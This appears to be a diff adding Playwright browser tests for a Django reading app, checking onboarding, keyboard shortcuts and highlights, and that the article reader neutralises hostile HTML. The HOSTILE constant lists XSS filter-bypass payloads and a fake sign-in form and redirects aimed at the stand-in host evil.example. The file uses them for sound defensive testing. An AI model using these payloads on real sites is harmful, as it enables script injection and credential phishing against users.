@@ -1,0 +1,186 @@
+"""Using Transom in Chromium: the first minute, the keys, the reader; with hostile text, and without scripts."""
+
+from __future__ import annotations
+
+import pytest
+from playwright.sync_api import Browser, Page, expect
+from pytest_django.live_server_helper import LiveServer
+from tests import factories
+from tests.browser import sign_in
+from tests.interfaces.web.test_browser_screens import watch
+from tests.interfaces.web.world import make_world
+
+from transom.apps.accounts.models import Profile
+from transom.apps.brief.models import Feedback, Signal
+from transom.apps.library.models import Highlight, ReadingState
+from transom.apps.sources.models import Subscription
+
+pytestmark = [pytest.mark.browser, pytest.mark.django_db(transaction=True)]
+
+HOSTILE = """
+<p>Before.</p>
+<script>window.harm = 'script'</script>
+<img src=x onerror="window.harm = 'onerror'">
+<svg onload="window.harm = 'svg'"><script>window.harm = 'svg script'</script></svg>
+<a href="javascript:window.harm = 'link'" id="bait">press me</a>
+<a href="&#106;avascript:window.harm = 'entity'">press me</a>
+<a href="java&#10;script:window.harm = 'newline'">press me</a>
+<iframe srcdoc="<script>parent.harm = 'frame'</script>"></iframe>
+<iframe src="javascript:parent.harm = 'frame'"></iframe>
+<math><mtext><table><mglyph><style><img src=x onerror="window.harm = 1"></style></mglyph></table></mtext></math>
+<noscript><p title="</noscript><img src=x onerror=window.harm='noscript'>"></noscript>
+<form action="https://evil.example/" id="stolen"><input name="a"><button>Sign in again</button></form>
+<object data="javascript:window.harm = 'object'"></object><embed src="javascript:window.harm = 'embed'">
+<style>body { display: none }</style><p style="position: fixed; inset: 0; background: url(https://evil.example/)">over</p>
+<details open ontoggle="window.harm = 'toggle'"><summary>x</summary></details>
+<video src="https://evil.example/a.mp4" onloadstart="window.harm = 'video'" autoplay></video>
+<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">
+<link rel="stylesheet" href="https://evil.example/a.css">
+<p>After.</p>
+"""
+
+
+def test_two_questions_and_one_click_lead_to_the_brief(live_server: LiveServer, page: Page) -> None:
+    user = factories.make_user(set_up=False)
+    sign_in(page.context, user, live_server.url)
+    complaints = watch(page)
+    page.goto(live_server.url)
+    page.get_by_label("What is your job").press_sequentially("Head of records at a county council")
+    suggested = page.locator(".choice.suggested").first
+    expect(suggested).to_contain_text("Records and information management")
+    page.get_by_label("How many minutes").fill("12")
+    suggested.get_by_role("button").click()
+    page.wait_for_url(live_server.url + "/")
+    expect(page.get_by_role("heading", level=1)).to_have_text("Your brief")
+    assert complaints == []
+    profile = Profile.objects.get(user=user)
+    assert (profile.minutes, profile.pack) == ([12] * 7, "records-management")
+    assert Subscription.objects.filter(user=user, pack="records-management").count() >= 15
+
+
+def test_single_keys_move_open_save_and_put_aside(live_server: LiveServer, page: Page) -> None:
+    world = make_world(lines=2)
+    sign_in(page.context, world.user, live_server.url)
+    page.goto(live_server.url)
+    page.keyboard.press("j")
+    expect(page.locator(".at-it")).to_contain_text("The second door")
+    page.keyboard.press("s")
+    expect(page.locator(f"#does-{world.item.pk}").get_by_role("button", name="Saved")).to_be_visible()
+    page.keyboard.press("j")
+    page.keyboard.press("x")
+    expect(page.locator(".at-it")).to_contain_text("Undo “not for me”")
+    page.keyboard.press("k")
+    page.keyboard.press("?")
+    expect(page.get_by_role("dialog")).to_be_visible()
+    page.keyboard.press("?")
+    page.keyboard.press("o")
+    page.wait_for_url(f"**/read/{world.item.pk}/**")
+    page.keyboard.press("/")
+    page.wait_for_url("**/search/")
+    assert ReadingState.objects.filter(user=world.user, item=world.item).exclude(saved_at=None).exists()
+    assert Feedback.objects.filter(user=world.user, signal=Signal.LESS).count() == 1
+
+
+def test_keys_are_letters_while_one_writes(live_server: LiveServer, page: Page) -> None:
+    world = make_world()
+    sign_in(page.context, world.user, live_server.url)
+    page.goto(f"{live_server.url}/search/?q=door")
+    box = page.get_by_role("searchbox")
+    box.fill("")
+    box.press_sequentially("sox?j/")
+    expect(box).to_have_value("sox?j/")
+    expect(page.get_by_role("dialog")).to_be_hidden()
+
+
+def test_hostile_text_does_nothing_in_the_reader(live_server: LiveServer, page: Page) -> None:
+    """The text goes past the store's sanitiser on purpose: what the reader does must be enough."""
+    user = factories.make_user()
+    item = factories.make_item(
+        "<script>window.harm = 'title'</script>", body=HOSTILE, author="<b onclick=x>A</b>"
+    )
+    sign_in(page.context, user, live_server.url)
+    asked: list[str] = []
+    page.on("request", lambda request: asked.append(request.url))
+    page.goto(f"{live_server.url}/read/{item.pk}/")
+    for bait in page.locator("#article a").all():
+        bait.click(no_wait_after=True)
+    page.wait_for_timeout(300)
+    assert page.url == f"{live_server.url}/read/{item.pk}/"
+    assert page.evaluate("window.harm") is None
+    expect(page.get_by_text("After.")).to_be_visible()
+    assert [url for url in asked if not url.startswith(live_server.url)] == []
+    assert (
+        page.locator("#article :is(script, iframe, object, embed, form, style, link, base, svg)").count() == 0
+    )
+
+
+def test_the_policy_alone_stops_hostile_text(live_server: LiveServer, page: Page) -> None:
+    """Were the sanitiser ever to fail, the content policy must hold: the text is put into the page as it is."""
+    user = factories.make_user()
+    item = factories.make_item("A page", body="<p>Plain.</p>")
+    sign_in(page.context, user, live_server.url)
+    asked: list[str] = []
+    page.on("request", lambda request: asked.append(request.url))
+    page.goto(f"{live_server.url}/read/{item.pk}/")
+    page.locator("#article").evaluate("(at, html) => { at.innerHTML = html }", HOSTILE)
+    page.locator("#bait").click(no_wait_after=True)
+    page.locator("#stolen button").evaluate("button => button.click()")
+    page.wait_for_timeout(300)
+    assert page.evaluate("window.harm") is None
+    sent = [url for url in asked if "evil.example" in url]
+    assert sent == []
+
+
+def test_selected_words_can_be_marked(live_server: LiveServer, page: Page) -> None:
+    world = make_world()
+    Highlight.objects.all().delete()
+    sign_in(page.context, world.user, live_server.url)
+    page.goto(f"{live_server.url}/read/{world.item.pk}/")
+    page.locator("#article p").first.click(click_count=3)
+    page.get_by_role("button", name="Mark this").click()
+    expect(page.locator("#article mark").first).to_be_visible()
+    assert "the old room had two doors" in Highlight.objects.get().quote
+
+
+def test_the_reader_counts_its_own_seconds(live_server: LiveServer, page: Page) -> None:
+    world = make_world()
+    sign_in(page.context, world.user, live_server.url)
+    page.goto(f"{live_server.url}/read/{world.item.pk}/")
+    with page.expect_response(lambda answer: answer.url.endswith("/time/"), timeout=10000) as answer:
+        page.mouse.move(200, 200)
+    assert answer.value.status == 204
+    state = ReadingState.objects.get(user=world.user, item=world.item)
+    assert state.opened_at is not None
+    assert state.active_seconds >= 1
+
+
+def test_everything_works_without_scripts(live_server: LiveServer, browser: Browser) -> None:
+    world = make_world()
+    context = browser.new_context(java_script_enabled=False)
+    sign_in(context, world.user, live_server.url)
+    page = context.new_page()
+    page.goto(live_server.url)
+    line = page.locator(f"#line-{world.item.pk}")
+    line.get_by_role("button", name="Save", exact=True).click()
+    expect(line.get_by_role("button", name="Saved")).to_be_visible()
+    line.get_by_role("link", name="The second door").click()
+    expect(page.locator("#article")).to_contain_text("A register is a promise.")
+    page.get_by_label("A note to yourself").fill("Without scripts.")
+    page.get_by_role("button", name="Add the note").click()
+    expect(page.locator("#notes")).to_contain_text("Without scripts.")
+    page.get_by_role("button", name="Finished").click()
+    expect(page.get_by_role("heading", level=1)).to_have_text("Your brief")
+    context.close()
+
+
+def test_the_brief_grows_while_it_is_made(live_server: LiveServer, page: Page) -> None:
+    world = make_world()
+    world.brief.state = "making"
+    world.brief.save()
+    sign_in(page.context, world.user, live_server.url)
+    page.goto(live_server.url)
+    expect(page.get_by_role("status")).to_contain_text("Your brief is being made")
+    expect(page.get_by_text("That is all for today.")).to_have_count(0)
+    world.brief.state = "final"
+    world.brief.save()
+    expect(page.get_by_text("That is all for today.")).to_be_visible(timeout=8000)
